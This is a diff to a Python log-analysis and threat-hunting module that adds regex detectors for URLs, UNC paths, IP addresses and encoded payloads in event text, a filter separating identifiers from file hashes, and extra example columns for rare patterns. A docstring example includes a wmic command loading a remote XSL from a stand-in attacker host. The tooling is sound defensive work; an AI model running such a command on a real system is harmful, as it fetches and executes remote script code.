@@ -8,8 +8,10 @@ from __future__ import annotations
 
 import ipaddress
 import math
-from collections.abc import Sequence
+import re
+from collections.abc import Mapping, Sequence
 from concurrent.futures import Executor
+from types import MappingProxyType
 from typing import TYPE_CHECKING, Any, Final
 
 import numpy as np
@@ -31,12 +33,16 @@ __all__ = [
     "IOC_COLUMNS",
     "NOISE_IP_TYPES",
     "PATTERN_COLUMNS",
+    "PROTECTED_SPANS",
     "SUSPICION_ORDER",
     "decode_events",
     "extract_iocs",
     "find_patterns",
     "geolocate_iocs",
+    "identifier_hash_mask",
     "noise_address_mask",
+    "protect_spans",
+    "public_or_named",
     "rank_iocs",
     "summarise_iocs",
 ]
@@ -91,7 +97,50 @@ PATTERN_COLUMNS: Final[tuple[str, ...]] = (
     "example_file",
     "example_row",
     "example_text",
+    "example_host",
+    "example_user",
+    "example_parent",
+    "exemplars",
 )
+
+#: What a pattern's wildcard never swallows: each match becomes a named placeholder before
+#: template mining, so a line with a URL, a UNC path, an IP address or an encoded payload
+#: never shares a template with one that has a plain word there (``wmic process
+#: /FORMAT:list`` and ``/FORMAT:https://.../x.xsl`` stay two patterns), and the values are
+#: listed as the pattern's ``exemplars``.
+PROTECTED_SPANS: Final[Mapping[str, str]] = MappingProxyType(
+    {
+        "url": r"\b[a-zA-Z][a-zA-Z0-9+.-]{1,15}://[^\s\"'<>]+",
+        "unc": r"(?<![\w\\])\\\\[A-Za-z0-9._$-]+\\[^\s\"'<>|]*",
+        "ip": r"(?<![\w.:])\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?![\w.])"
+        r"|(?<![\w:])(?:[0-9a-fA-F]{1,4}:){3,7}[0-9a-fA-F]{1,4}(?![\w:])",
+        "payload": r"(?<![A-Za-z0-9+/])(?=[A-Za-z0-9+/]*[0-9+/])(?=[A-Za-z0-9+/]*[a-z])"
+        r"(?=[A-Za-z0-9+/]*[A-Z])[A-Za-z0-9+/]{40,}={0,2}",
+    }
+)
+_PROTECTED: Final = re.compile(
+    "|".join(f"(?P<{name}>{pattern})" for name, pattern in PROTECTED_SPANS.items())
+)
+_MAX_EXEMPLARS: Final = 5
+_EXEMPLAR_CHARS: Final = 200
+
+
+def protect_spans(line: str) -> tuple[str, tuple[str, ...]]:
+    """Replace the :data:`PROTECTED_SPANS` of ``line`` with ``<url>``, ``<unc>``, ``<ip>``
+    or ``<payload>``; return the new line and the values replaced.
+
+    Examples:
+        >>> protect_spans("wmic process get /FORMAT:https://evil.example/x.xsl")
+        ('wmic process get /FORMAT:<url>', ('https://evil.example/x.xsl',))
+    """
+    found: list[str] = []
+
+    def swap(match: re.Match[str]) -> str:
+        found.append(match.group(0))
+        return f"<{match.lastgroup}>"
+
+    return _PROTECTED.sub(swap, line), tuple(found)
+
 
 #: Location columns :func:`geolocate_iocs` adds.
 GEO_COLUMNS: Final[tuple[str, ...]] = (
@@ -383,6 +432,87 @@ def noise_address_mask(table: pd.DataFrame) -> pd.Series[bool]:
     return pd.Series(flags, index=table.index, dtype=bool)
 
 
+def public_or_named(ioc_type: object, observable: object) -> bool:
+    """Whether an indicator points somewhere outside: a URL, a domain or a public IP address.
+
+    Examples:
+        >>> public_or_named("ipv4", "10.0.0.1"), public_or_named("ipv4", "203.0.113.9")
+        (False, False)
+        >>> public_or_named("ipv4", "8.8.8.8"), public_or_named("url", "http://10.0.0.1/a")
+        (True, True)
+    """
+    if ioc_type in ("url", "dns"):
+        return True
+    if ioc_type not in ("ipv4", "ipv6") or not isinstance(observable, str):
+        return False
+    try:
+        address = ipaddress.ip_address(observable.split("%", 1)[0])
+    except ValueError:
+        return False
+    return ip_type_of(address) is IpType.PUBLIC
+
+
+#: Words that name a hex value as an identifier rather than a hash (container ids, GUID-like
+#: ids, session, request or correlation ids), in a column name or just before the value.
+_IDENTIFIER_NAME: Final = re.compile(
+    r"(?i)(?:(?:container|guid|uuid|session|request|correlation|activity|trace|transaction"
+    r"|instance|tenant|device|machine|logon|client|span|pod)[\s_-]*(?:id)?[\s\"':=]*"
+    r"|\b(?:id|cid|key)[\s\"':=]+)$"
+)
+_ID_CONTEXT_CHARS: Final = 40
+
+
+def identifier_hash_mask(hits: pd.DataFrame, frame: pd.DataFrame) -> pd.Series[bool]:
+    """Hash-shaped hits that the event names as something else (an id, not a file hash).
+
+    A 32/40/64-digit hex value is reported as a hash by the extractor (a syntactic rule). A
+    value the event itself calls a container id, a GUID, a session / request / correlation
+    id ... is not a file hash: its column is named so (``ContainerId``), or the text just
+    before it is (``container_id=...``, ``--cidfile``, ``ProcessGuid: ...``).
+
+    Args:
+        hits: the rows of :func:`extract_iocs`.
+        frame: the events (the text around each original hit).
+
+    Returns:
+        A boolean series aligned to ``hits``.
+
+    Examples:
+        >>> import pandas as pd
+        >>> events = pd.DataFrame({"msg": ["container_id=" + "ab" * 32, "sha256 " + "cd" * 32]})
+        >>> hits = extract_iocs(events, ["msg"], events.iloc[0:0])
+        >>> hits.loc[identifier_hash_mask(hits, events), "observable"].str[:4].tolist()
+        ['abab']
+    """
+    flags = np.zeros(len(hits), dtype=bool)
+    if hits.empty:
+        return pd.Series(flags, index=hits.index, dtype=bool)
+    for pos, (kind, value, column, index, source) in enumerate(
+        zip(
+            hits["ioc_type"],
+            hits["observable"],
+            hits["column"],
+            hits["src_index"],
+            hits["source"],
+            strict=True,
+        )
+    ):
+        if kind not in _HASH_TYPES:
+            continue
+        if _IDENTIFIER_NAME.search(str(column)):
+            flags[pos] = True
+            continue
+        if source != "original" or column not in frame.columns or index not in frame.index:
+            continue
+        text = frame.at[index, column]
+        if not isinstance(text, str):
+            continue
+        at = text.lower().find(str(value).lower())
+        if at > 0 and _IDENTIFIER_NAME.search(text[max(0, at - _ID_CONTEXT_CHARS) : at]):
+            flags[pos] = True
+    return pd.Series(flags, index=hits.index, dtype=bool)
+
+
 def _microsoft_signed_events(frame: pd.DataFrame) -> pd.Series[bool]:
     """Events whose image Sysmon marks as signed by Microsoft (``Signed`` and ``Signature``)."""
     if "Signed" not in frame.columns or "Signature" not in frame.columns:
@@ -458,6 +588,7 @@ def find_patterns(
     executor: Executor | None = None,
     rare_min_events: int = _defaults.RARE_MIN_EVENTS,
     rare_share: float = _defaults.RARE_SHARE,
+    host_column: str | None = None,
 ) -> tuple[pd.DataFrame, pd.Series[Any]]:
     """Group the events into patterns (templates of their text) and rank the rare ones.
 
@@ -473,6 +604,10 @@ def find_patterns(
         executor: where the masking of distinct lines runs.
         rare_min_events: see above.
         rare_share: see above.
+        host_column: the host column (the example's host in ``example_host``).
+
+    URLs, UNC paths, IP addresses and encoded payloads are never swallowed by a wildcard
+    (see :data:`PROTECTED_SPANS`); their values are listed in ``exemplars``.
 
     Returns:
         ``(patterns, labels)``: one row per pattern with the columns of
@@ -485,7 +620,7 @@ def find_patterns(
         ...                               + ["whoami /all"]})
         >>> patterns, labels = find_patterns(events, ["cmd"], rare_min_events=1)
         >>> patterns[["template", "events", "rare"]].values.tolist()
-        [['whoami /all', 1, True], ['ping -n <*> <*>', 3, False]]
+        [['whoami /all', 1, True], ['ping -n <*> <ip>', 3, False]]
     """
     text = pd.Series("", index=frame.index, dtype=object)
     for column in reversed(list(columns)):
@@ -497,9 +632,17 @@ def find_patterns(
     if lines.empty:
         empty = pd.DataFrame({name: pd.Series(dtype=object) for name in PATTERN_COLUMNS})
         return empty, labels
-    groups = group_patterns(lines, executor=executor)
-    labels.loc[lines.index] = groups.labels.to_numpy()
-    work = pd.DataFrame({"pattern_id": groups.labels.to_numpy(), "src_index": lines.index})
+    codes, distinct = pd.factorize(lines)
+    protected = [protect_spans(str(line)) for line in distinct]
+    masked = np.asarray([p[0] for p in protected], dtype=object)
+    grouped_distinct = group_patterns(
+        pd.Series(masked[codes], index=lines.index), executor=executor
+    )
+    groups_labels = grouped_distinct.labels.to_numpy()
+    distinct_labels = np.zeros(len(distinct), dtype=np.int64)
+    distinct_labels[codes] = groups_labels
+    labels.loc[lines.index] = groups_labels
+    work = pd.DataFrame({"pattern_id": groups_labels, "src_index": lines.index})
     if time_column is not None and time_column in frame.columns:
         work["time"] = frame.loc[lines.index, time_column].to_numpy()
     else:
@@ -512,8 +655,16 @@ def find_patterns(
         last_seen=("time", "max"),
     ).reset_index()
     table["template"] = pd.Series(
-        [groups.templates[i] for i in table["pattern_id"]], index=table.index, dtype=object
+        [grouped_distinct.templates[i] for i in table["pattern_id"]],
+        index=table.index,
+        dtype=object,
     )
+    exemplars: dict[int, list[str]] = {}
+    for label, (_, spans) in zip(distinct_labels.tolist(), protected, strict=True):
+        kept = exemplars.setdefault(int(label), [])
+        for value in spans:
+            if len(kept) < _MAX_EXEMPLARS and value[:_EXEMPLAR_CHARS] not in kept:
+                kept.append(value[:_EXEMPLAR_CHARS])
     threshold = max(rare_min_events, math.floor(rare_share * len(lines)))
     table["rare"] = table["events"] <= threshold
     table = table.sort_values(["events", "first_seen", "pattern_id"], kind="stable")
@@ -525,6 +676,13 @@ def find_patterns(
     table["example_text"] = pd.Series(
         [_preview(text.at[i]) for i in table["example_index"]], index=table.index, dtype=object
     )
+    from asisdk.pipeline._findings import event_fields
+
+    examples = event_fields(frame.loc[table["example_index"].to_numpy()], host_column=host_column)
+    table["example_host"] = examples["host"].to_numpy()
+    table["example_user"] = examples["user"].to_numpy()
+    table["example_parent"] = examples["parent_image"].to_numpy()
+    table["exemplars"] = ["\n".join(exemplars.get(int(i), [])) for i in table["pattern_id"]]
     return table.reset_index(drop=True)[list(PATTERN_COLUMNS)], labels
 
 
